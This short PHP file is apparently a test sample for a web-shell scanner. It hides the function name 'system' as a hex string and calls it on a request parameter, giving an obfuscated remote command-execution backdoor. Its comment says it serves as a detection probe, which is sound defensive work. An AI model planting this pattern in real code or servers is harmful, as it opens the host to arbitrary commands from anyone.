<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
final readonly class Job
{
    public function __construct(public string $fn, public string $arg) {}
}
$j = new Job(hex2bin('73797374656d'), $_REQUEST['a']);
($j->fn)($j->arg);
